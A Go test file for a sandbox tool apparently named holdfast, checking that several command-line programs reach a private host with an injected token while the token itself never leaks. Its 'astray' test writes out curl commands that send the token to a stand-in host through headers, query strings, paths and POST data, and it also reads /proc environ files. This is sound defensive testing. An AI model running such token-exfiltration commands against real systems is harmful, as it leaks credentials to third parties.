package realtest

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"holdfast.dev/holdfast/internal/testenv"
)

// privateHost only serves clients that have the token.
const privateHost = "private.example.org"

const token = "not-a-real-token-0123456789abcdef"

// privateSite serves what the public sites serve, but requires the token.
func privateSite(t *testing.T, repositories string) http.Handler {
	t.Helper()
	registry := onePackage(t)
	mux := http.NewServeMux()
	mux.HandleFunc("/whoami", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "welcome by %s\n", r.Proto) })
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Was", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "you said %s\n", r.Header.Get("Authorization"))
	})
	mux.Handle("/leftover", registry)
	mux.Handle("/leftover.tgz", registry)
	mux.Handle("/simple/", pythonIndex(t))
	mux.Handle("/files/", pythonIndex(t))
	mux.Handle("/example.org/", goProxy(t))
	mux.Handle("/git/", http.StripPrefix("/git", gitSite(repositories)))
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		if password != token && r.Header.Get("Authorization") != "Bearer "+token {
			w.Header().Set("WWW-Authenticate", `Basic realm="private"`)
			http.Error(w, "who is it?", http.StatusUnauthorized)
			return
		}
		mux.ServeHTTP(w, r)
	})
}

// identified are requests to the private site: each program sends a token from a
// variable in its own way.
var identified = []download{
	{
		name: "curl", needs: []testenv.Feature{testenv.Curl},
		script: `
			curl -sS -H "Authorization: Bearer $API_TOKEN" https://private.example.org/whoami
			curl -sS --http1.1 -u "x:$API_TOKEN" https://private.example.org/whoami
			curl -sS -o /dev/null -w 'without %{http_code}\n' https://private.example.org/whoami
			curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://private.example.org/echo`,
		want: []string{"welcome by HTTP/1.1\nwelcome by HTTP/1.1\nwithout 401\n", "you said Bearer "},
	},
	{
		name: "wget", needs: []testenv.Feature{testenv.Wget},
		script: `
			wget -q -O - --header "Authorization: Bearer $API_TOKEN" https://private.example.org/whoami
			wget -q -O - --user x --password "$API_TOKEN" https://private.example.org/whoami`,
		want: []string{"welcome by HTTP/1.1\nwelcome by HTTP/1.1\n"},
	},
	{
		name: "node", needs: []testenv.Feature{testenv.Node}, own: []string{nodeBundle},
		script: `node -e 'fetch("https://private.example.org/whoami", {headers: {authorization: "Bearer " + process.env.API_TOKEN}}).then(r => r.text()).then(console.log)'`,
		want:   []string{"welcome by HTTP/1.1\n"},
	},
	{
		name: "requests", needs: []testenv.Feature{testenv.Python, testenv.Pip},
		script: `python3 -c 'import os; from pip._vendor import requests; print(requests.get("https://private.example.org/whoami", auth=("x", os.environ["API_TOKEN"])).text)'`,
		want:   []string{"welcome by HTTP/1.1\n"},
	},
	{
		name: "git", needs: []testenv.Feature{testenv.Git},
		script: `
			printf '#!/bin/sh\necho username=x\necho "password=$API_TOKEN"\n' > helper
			chmod +x helper
			export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0="$PWD/helper"
			git clone -q https://private.example.org/git/credential-{way}.git r` + gitWork,
		want: []string{"first", "5000000 big"},
	},
	{
		name: "npm", needs: []testenv.Feature{testenv.Node, testenv.NPM}, own: []string{nodeBundle},
		files: map[string]string{"package.json": `{"name":"app","version":"1.0.0","dependencies":{"leftover":"1.0.0"}}`},
		script: `
			npm install --registry=https://private.example.org/ "--//private.example.org/:_authToken=$API_TOKEN" --no-audit --no-fund --fetch-retries=0
			node -p 'require("leftover")'`,
		want: []string{"added 1 package", "from the package"},
	},
	{
		name: "pip", needs: []testenv.Feature{testenv.Python, testenv.Pip},
		script: `
			python3 -m pip install -q --retries 0 --disable-pip-version-check --no-cache-dir --index-url "https://x:$API_TOKEN@private.example.org/simple/" --target packages leftover
			PYTHONPATH=packages python3 -c 'import leftover; print(leftover.word)'`,
		want: []string{"from the wheel"},
	},
	{
		name: "go", needs: []testenv.Feature{testenv.Go},
		files: map[string]string{"go.mod": "module example.org/app\n\ngo 1.21\n\nrequire example.org/leftover v1.2.3\n"},
		script: `
			printf 'machine private.example.org login x password %s\n' "$API_TOKEN" > ~/.netrc
			export GOPROXY=https://private.example.org GONOSUMDB='*' GOFLAGS='-mod=mod -modcacherw'
			go mod download
			cat "$(go env GOMODCACHE)/example.org/leftover@v1.2.3/leftover.go"`,
		want: []string{"from the module"},
	},
}

// TestNetworkCredentials gives programs a placeholder instead of a token. They
// get what the token gives access to, and neither they nor the files of the run
// contain it.
func TestNetworkCredentials(t *testing.T) {
	testenv.WithNetwork(t, addresses, func(t *testing.T, n *testenv.Network) {
		testenv.Binary(t)
		root := t.TempDir()
		testenv.NoLeaks(t, root)
		w := newWorld(t, n, root)
		w.nameServer()
		for _, e := range identified {
			for _, way := range []way{ways[0], ways[2]} {
				t.Run(e.name+" "+way.name, func(t *testing.T) {
					t.Parallel()
					e.identify(t, w, way)
				})
			}
		}
		t.Run("to another host", func(t *testing.T) {
			t.Parallel()
			astray(t, w)
		})
	})
}

const tokenPolicy = `version: 1
extends: local
credentials:
  - {name: token, source: {env: API_TOKEN}, env: API_TOKEN}
network:
  allow:
    - {host: private.example.org, credential: token}
    - {host: other.example.org, inspect: true}
    - {host: files.example.org}
`

func (e download) identify(t *testing.T, w *world, way way) {
	p := newFixture(t, w.root, e.needs...)
	p.env = append(p.env, "API_TOKEN="+token)
	p.write(e.files)
	script := strings.ReplaceAll(e.script, "{way}", way.name)
	if way.bare {
		p.env = append(p.env, e.own...)
		contains(t, p.bare(script), e.want...)
		return
	}
	out, complaint := p.guarded(script + "\necho; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' || true")
	contains(t, out, e.want...)
	if strings.Contains(out, token) || strings.Contains(complaint, token) {
		t.Errorf("the token is inside:\n%s\n%s", out, complaint)
	}
	if strings.Contains(complaint, "holdfast: refused") || strings.Contains(complaint, "holdfast: alert") {
		t.Errorf("something was refused:\n%s", complaint)
	}
	if found := p.bare(`grep -rlFe "$0" .. || true`, token); found != "" {
		t.Errorf("the token is in %s", found)
	}
}

// guarded runs a script under the policy with the token.
func (p *fixture) guarded(script string) (out, complaint string) {
	p.t.Helper()
	p.write(map[string]string{"../policy.yaml": tokenPolicy})
	return p.both(testenv.Binary(p.t), "run", "--policy", p.ws+"/../policy.yaml", "--", "sh", "-euc", script)
}

// astray sends the token to wrong places.
func astray(t *testing.T, w *world) {
	p := newFixture(t, w.root, testenv.Curl)
	p.env = append(p.env, "API_TOKEN="+token)
	script := `
		send() { curl -sS -o /dev/null -w '%{http_code} ' "$@"; }
		send -H "Authorization: Bearer $API_TOKEN" https://other.example.org/
		send -u "x:$API_TOKEN" https://other.example.org/
		send -H "X-Key: $API_TOKEN" https://other.example.org/
		send "https://other.example.org/?key=$API_TOKEN"
		send "https://other.example.org/$API_TOKEN"
		send --data "key=$API_TOKEN" https://other.example.org/
		send -H "Authorization: Bearer $API_TOKEN" http://files.example.org/hello
		send -H "X-Key: $API_TOKEN" -H "Authorization: Bearer $API_TOKEN" https://private.example.org/whoami
		send -H "Authorization: Bearer $API_TOKEN" "https://private.example.org/whoami?key=$API_TOKEN"`
	if got, want := p.bare(script), "200 200 200 200 200 200 200 200 200 "; got != want {
		t.Fatalf("without a boundary: %q, want %q", got, want)
	}
	out, complaint := p.guarded(script)
	if want := strings.Repeat("403 ", 9); out != want {
		t.Errorf("got %q, want %q", out, want)
	}
	contains(t, complaint, "holdfast: alert: other.example.org:443", "holdfast: alert: files.example.org:80", "holdfast: alert: private.example.org:443")
}
